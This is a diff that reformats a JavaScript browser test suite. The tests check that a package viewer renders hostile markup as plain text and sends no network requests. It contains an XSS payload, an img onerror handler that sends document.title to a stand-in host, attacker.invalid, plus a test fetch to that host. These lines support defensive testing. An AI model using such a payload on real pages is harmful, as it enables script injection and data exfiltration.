@@ -1,60 +1,60 @@
 // A package whose names, paths and texts are markup and script: all of it stays text. Nothing is asked for, nothing pops up, and nothing of it becomes an element.
 
-import assert from 'node:assert/strict'
-import { createServer } from 'node:http'
-import { after, before, test } from 'node:test'
-import { fixtureEntries } from '../lib/fixture.mjs'
-import { check, closeSilent, fixtureFolder, fixturePath, inEachBrowser, SCHEMES } from './page.mjs'
-import { asWritten, joinedLines, openEverything, readEach } from './views.mjs'
+import assert from "node:assert/strict";
+import { createServer } from "node:http";
+import { after, before, test } from "node:test";
+import { fixtureEntries } from "../lib/fixture.mjs";
+import { check, closeSilent, fixtureFolder, fixturePath, inEachBrowser, SCHEMES } from "./page.mjs";
+import { asWritten, joinedLines, openEverything, readEach } from "./views.mjs";
 
 /**
  * @typedef {import('./page.mjs').Page} Page
  * @typedef {import('./page.mjs').Report} Report
  */
 
-const MARKUP = '<img src=x onerror="fetch(\'https://attacker.invalid/?\'+document.title)">'
-const path = await fixturePath('hostile-markup')
-const texts = textsOf(fixtureEntries(fixtureFolder('hostile-markup')))
+const MARKUP = "<img src=x onerror=\"fetch('https://attacker.invalid/?'+document.title)\">";
+const path = await fixturePath("hostile-markup");
+const texts = textsOf(fixtureEntries(fixtureFolder("hostile-markup")));
 
 /** Every element that the page itself makes, and no other. */
 const OWN_ELEMENTS =
-  'html head meta title link style body header main footer section article nav figure figcaption div span p h1 h2 h3 ul ol li dl dt dd a code strong bdi mark svg path button input label progress noscript script dialog details summary'
+  "html head meta title link style body header main footer section article nav figure figcaption div span p h1 h2 h3 ul ol li dl dt dd a code strong bdi mark svg path button input label progress noscript script dialog details summary";
 
 inEachBrowser(({ open, browser }) => {
-  const proxy = deafProxy()
-  before(() => proxy.listen())
-  after(() => proxy.close())
+  const proxy = deafProxy();
+  before(() => proxy.listen());
+  after(() => proxy.close());
 
   for (const scheme of SCHEMES) {
     test(`markup stays text, from ${scheme}`, async () => {
-      const page = await open(scheme, { proxy: proxy.settings() })
-      const { report } = await check(page, path)
-      await openEverything(page)
-      const shown = await page.evaluate(() => document.body.textContent)
-      assert.ok(shown.includes(MARKUP), 'the markup is shown as text')
-      await checkElements(page)
+      const page = await open(scheme, { proxy: proxy.settings() });
+      const { report } = await check(page, path);
+      await openEverything(page);
+      const shown = await page.evaluate(() => document.body.textContent);
+      assert.ok(shown.includes(MARKUP), "the markup is shown as text");
+      await checkElements(page);
       // Once is enough: the reader does not know where the page came from.
-      if (scheme === 'http') await readEveryFile(page, report)
+      if (scheme === "http") await readEveryFile(page, report);
       // The page itself is silent: this is checked for every page when it is closed.
-      assert.deepEqual(proxy.heard, [])
-    })
+      assert.deepEqual(proxy.heard, []);
+    });
   }
 
-  test('the same markup, were it ever parsed, would be noticed', async () => {
-    const page = await open()
-    await page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), MARKUP)
-    await page.waitForFunction(() => window.heard.violations.length > 0)
-    await assert.rejects(checkElements(page), /img/)
-    await assert.rejects(closeSilent(page), /img-src|127\.0\.0\.1/)
-  })
+  test("the same markup, were it ever parsed, would be noticed", async () => {
+    const page = await open();
+    await page.evaluate((markup) => document.body.insertAdjacentHTML("beforeend", markup), MARKUP);
+    await page.waitForFunction(() => window.heard.violations.length > 0);
+    await assert.rejects(checkElements(page), /img/);
+    await assert.rejects(closeSilent(page), /img-src|127\.0\.0\.1/);
+  });
 
-  test('a request, were one ever sent, would be heard', async () => {
-    const context = await browser().newContext({ proxy: proxy.settings() })
-    await (await context.newPage()).evaluate(() => fetch('http://attacker.invalid/').catch(() => {}))
-    await context.close()
-    assert.deepEqual(proxy.heard.splice(0), ['http://attacker.invalid/'])
-  })
-})
+  test("a request, were one ever sent, would be heard", async () => {
+    const context = await browser().newContext({ proxy: proxy.settings() });
+    await (await context.newPage()).evaluate(() => fetch("http://attacker.invalid/").catch(() => {}));
+    await context.close();
+    assert.deepEqual(proxy.heard.splice(0), ["http://attacker.invalid/"]);
+  });
+});
 
 /**
  * Every row that opens, in both trees; each text is the one that was packed.
@@ -63,11 +63,14 @@ inEachBrowser(({ open, browser }) => {
  */
 async function readEveryFile(page, { entries, sources }) {
   const count = await readEach(page, async (text) => {
-    const shown = asWritten(text)
-    assert.ok(texts.some((packed) => isText(shown, packed)), `not a text of the package: ${shown}`)
-    await checkElements(page)
-  })
-  assert.equal(count, entries.length + sources.filter(({ hasText, repeats }) => hasText && repeats === null).length)
+    const shown = asWritten(text);
+    assert.ok(
+      texts.some((packed) => isText(shown, packed)),
+      `not a text of the package: ${shown}`,
+    );
+    await checkElements(page);
+  });
+  assert.equal(count, entries.length + sources.filter(({ hasText, repeats }) => hasText && repeats === null).length);
 }
 
 /**
@@ -76,13 +79,22 @@ async function readEveryFile(page, { entries, sources }) {
  */
 async function checkElements(page) {
   const found = await page.evaluate((own) => {
-    const all = [...document.querySelectorAll('*')]
-    const strange = all.filter(({ localName }) => !own.includes(localName)).map(({ localName }) => localName)
-    const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ name, value })))
-    const live = attributes.filter(({ name, value }) => /^on|^src|^srcdoc|^action|^formaction/.test(name) || (name === 'href' && !/^(#|data:image\/svg)/.test(value)))
-    return { strange, live, scripts: document.scripts.length, styles: document.styleSheets.length, title: document.title }
-  }, OWN_ELEMENTS.split(' '))
-  assert.deepEqual(found, { strange: [], live: [], scripts: 3, styles: 1, title: found.title })
+    const all = [...document.querySelectorAll("*")];
+    const strange = all.filter(({ localName }) => !own.includes(localName)).map(({ localName }) => localName);
+    const attributes = all.flatMap((element) => [...element.attributes].map(({ name, value }) => ({ name, value })));
+    const live = attributes.filter(
+      ({ name, value }) =>
+        /^on|^src|^srcdoc|^action|^formaction/.test(name) || (name === "href" && !/^(#|data:image\/svg)/.test(value)),
+    );
+    return {
+      strange,
+      live,
+      scripts: document.scripts.length,
+      styles: document.styleSheets.length,
+      title: document.title,
+    };
+  }, OWN_ELEMENTS.split(" "));
+  assert.deepEqual(found, { strange: [], live: [], scripts: 3, styles: 1, title: found.title });
 }
 
 /**
@@ -90,9 +102,9 @@ async function checkElements(page) {
  * @param {import('../lib/archive.mjs').Entry[]} entries
  */
 function textsOf(entries) {
-  const published = entries.map(({ bytes }) => String(bytes))
-  const map = JSON.parse(published.find((text) => text.startsWith('{"version":3')))
-  return [...published, ...map.sourcesContent].map(joinedLines)
+  const published = entries.map(({ bytes }) => String(bytes));
+  const map = JSON.parse(published.find((text) => text.startsWith('{"version":3')));
+  return [...published, ...map.sourcesContent].map(joinedLines);
 }
 
 /**
@@ -101,20 +113,20 @@ function textsOf(entries) {
  * @param {string} packed
  */
 function isText(shown, packed) {
-  if (!/(ghp|npm)_/.test(packed)) return shown === packed
-  return shown.length === packed.length && [...shown].every((letter, at) => letter === '*' || letter === packed[at])
+  if (!/(ghp|npm)_/.test(packed)) return shown === packed;
+  return shown.length === packed.length && [...shown].every((letter, at) => letter === "*" || letter === packed[at]);
 }
 
 /** A proxy that answers nobody and remembers who was asked for. */
 function deafProxy() {
   /** @type {string[]} */
-  const heard = []
-  const server = createServer((request, response) => (heard.push(request.url), response.writeHead(502).end()))
-  server.on('connect', (request, socket) => (heard.push(request.url), socket.destroy()))
+  const heard = [];
+  const server = createServer((request, response) => (heard.push(request.url), response.writeHead(502).end()));
+  server.on("connect", (request, socket) => (heard.push(request.url), socket.destroy()));
   return {
     heard,
-    listen: () => new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(undefined))),
-    settings: () => ({ server: `http://127.0.0.1:${server.address().port}`, bypass: '127.0.0.1' }),
+    listen: () => new Promise((resolve) => server.listen(0, "127.0.0.1", () => resolve(undefined))),
+    settings: () => ({ server: `http://127.0.0.1:${server.address().port}`, bypass: "127.0.0.1" }),
     close: () => (server.closeAllConnections(), server.close()),
-  }
+  };
 }
